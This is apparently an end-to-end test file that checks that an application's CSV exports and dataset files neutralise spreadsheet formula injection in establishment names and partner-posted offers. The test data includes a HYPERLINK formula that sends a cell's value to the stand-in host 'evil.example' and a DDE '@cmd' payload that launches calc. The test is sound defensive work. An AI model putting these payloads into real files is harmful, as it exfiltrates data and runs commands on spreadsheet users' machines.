// Spreadsheet formula injection through real HTTP on both engines: a text cell beginning with =, +,
// -, @, a tab or a carriage return reaches no downloaded CSV file as it is — the staff's export of a
// search (both flavours), a `siret` dataset's file, an `offre` dataset's file made of offers a
// partner application posted — it gets a leading quote; coordinates and other numbers stay numbers.
// Establishments are written on an instance of the test's own, so that the shared instances keep
// exactly their seeded establishments (which other specs count against an oracle).
import { parse } from 'csv-parse/sync'
import iconv from 'iconv-lite'
import { type APIRequestContext } from '@playwright/test'
import { expect, test } from '../support/contract-test'
import { FORMULA_TRIGGERS } from '@/lib/datasets/csv-cells'
import { siretFor, withLuhnDigit } from '@/lib/establishments/identifiers'
import { ESTABLISHMENT_COLUMNS, establishmentValues } from '@/lib/establishments/record'
import { waitForFile } from '../support/datasets'
import { engineOf } from '../support/engine'
import { startOwnInstance } from '../support/instance'
import { signInRequest } from '../support/staff'
import { bearer } from '../support/tokens'

const payload = (trigger: string) => `${trigger}HYPERLINK("http://evil.example/?"&A1;"clic")`
const neutralised = (text: string) => (FORMULA_TRIGGERS.some((t) => text.startsWith(t)) ? `'${text}` : text)

function rowsOf(text: string, delimiter = ','): Array<Record<string, string>> {
  const [header, ...rows] = parse(text, { delimiter }) as string[][]
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])))
}

async function datasetFile(
  request: APIRequestContext,
  baseURL: string,
  authorization: string,
  input: { title: string; model: string; search: unknown },
): Promise<string> {
  const created = await request.post('/bff/datasets', {
    headers: { Origin: baseURL },
    data: { ...input, encoding: 'UTF-8' },
  })
  expect(created.status(), await created.text()).toBe(201)
  const { dataset } = (await created.json()) as { dataset: { id: string } }
  const file = await waitForFile(request, dataset.id, authorization)
  const download = await request.get(file.location)
  expect(download.status()).toBe(200)
  return (await download.body()).toString('utf8')
}

test('the staff export and a siret dataset file neutralise names beginning with each trigger', async ({
  playwright,
}, testInfo) => {
  test.setTimeout(300_000)
  const own = await startOwnInstance(engineOf(testInfo), 1)
  const request = await playwright.request.newContext({ baseURL: own.baseURL })
  try {
    await neutralisesEstablishmentNames(request, own)
  } finally {
    await request.dispose()
    await own.stop()
  }
})

async function neutralisesEstablishmentNames(
  request: APIRequestContext,
  own: Awaited<ReturnType<typeof startOwnInstance>>,
): Promise<void> {
  const baseURL = own.baseURL
  const siren = withLuhnDigit(`98${String(Date.now() % 1_000_000).padStart(6, '0')}`)
  const names = FORMULA_TRIGGERS.map(payload)
  await own.withDb(async (db) => {
    for (const [i, name] of names.entries()) {
      const values = establishmentValues({
        siret: siretFor(siren, i),
        siren,
        entreprise: name,
        enseigne: `${FORMULA_TRIGGERS[i]}2+3`,
        denominationUsuelle: null,
        adresse: '1 RUE DE LA GARE 35000 RENNES',
        codePostal: '35000',
        codeCommune: '35238',
        libelleCommune: 'Rennes',
        codeNaf: '62.01Z',
        trancheEffectif: '11',
        effectifSaisi: null,
        secteurAlternatif: null,
        lon: -1.68,
        lat: 48.11,
        dateCreation: '2020-01-15',
        categorieJuridique: '5710',
        etatAdministratif: 'A',
      })
      await db.query(
        `INSERT INTO etablissement (${ESTABLISHMENT_COLUMNS.join(', ')})
         VALUES (${values.map((_, k) => `$${k + 1}`).join(', ')})`,
        values,
      )
    }
  })
  await signInRequest(request, baseURL, 'admin')
  const expected = names.map((n) => `'${n}`)
  const utf8 = await request.get(`/bff/etablissements/export?search[siren]=${siren}`)
  expect(utf8.status()).toBe(200)
  const latin9 = await request.get(`/bff/etablissements/export?search[siren]=${siren}&encodage=iso-8859-15`)
  expect(latin9.status()).toBe(200)
  const eco = (await own.bearer(['eco'])).authorization
  const dataset = await datasetFile(request, baseURL, eco, {
    title: `Injection ${siren}`,
    model: 'siret',
    search: { siren },
  })
  for (const rows of [
    rowsOf((await utf8.body()).toString('utf8')),
    rowsOf(iconv.decode(await latin9.body(), 'iso-8859-15'), ';'),
    rowsOf(dataset),
  ]) {
    expect(rows.map((r) => r.entreprise)).toEqual(expected)
    expect(rows.map((r) => r.enseigne)).toEqual(FORMULA_TRIGGERS.map((t) => `'${t}2+3`))
    expect(rows.every((r) => r.siren === siren && r.effectif_details_tranche_median === '15')).toBe(true)
  }
}

test('an offre dataset file neutralises the texts a partner application posted', async ({
  request,
  baseURL,
}, testInfo) => {
  const word = `Zqinj${testInfo.project.name.replace(/[^a-z]/g, '')}${Date.now().toString(36)}`
  const writer = await bearer(baseURL!, testInfo, 'all')
  await signInRequest(request, baseURL!, 'admin')
  const posted: Array<{ label: string; descriptif_bien: string; acces: string }> = []
  for (const [i, trigger] of FORMULA_TRIGGERS.entries()) {
    const offre = {
      local_type: 'bureaux',
      transaction_types: ['louer'],
      surface: 120,
      code_commune: '35238',
      label: `${trigger}SUM(1+1) ${word} ${i}`,
      descriptif_bien: payload(trigger),
      acces: `@cmd|' /C calc'!A0 ${trigger}`,
      latitude: 48.1035,
      longitude: -1.6722,
    }
    const created = await request.post('/v0/eco/immo/offres', {
      headers: { Accept: 'application/json', Authorization: writer },
      data: { offre },
    })
    expect(created.status(), await created.text()).toBe(202)
    const { offre: made } = (await created.json()) as { offre: { reference: string } }
    const publish = await request.post(`/bff/offres/${made.reference}/publish`, {
      headers: { Origin: baseURL! },
    })
    expect(publish.status(), await publish.text()).toBe(200)
    // Texts are trimmed when validated: a leading tab or carriage return is gone before any file.
    posted.push({
      label: offre.label.trim(),
      descriptif_bien: offre.descriptif_bien.trim(),
      acces: offre.acces,
    })
  }
  const eco = await bearer(baseURL!, testInfo, 'eco')
  const file = await datasetFile(request, baseURL!, eco, {
    title: `Offres ${word}`,
    model: 'offre',
    search: { q: word },
  })
  const rows = rowsOf(file)
  expect(rows).toHaveLength(FORMULA_TRIGGERS.length)
  for (const row of rows) {
    const sent = posted[Number(row.label!.split(' ').at(-1))]!
    expect(row.label).toBe(neutralised(sent.label))
    expect(row.descriptif_bien).toBe(neutralised(sent.descriptif_bien))
    expect(row.acces).toBe(`'${sent.acces.trim()}`)
    expect(row).toMatchObject({ longitude: '-1.6722', latitude: '48.1035', surface: '120' })
  }
  // =, +, - and @ reach the file and are neutralised there.
  expect(rows.filter((r) => r.descriptif_bien!.startsWith("'")).length).toBeGreaterThanOrEqual(4)
})
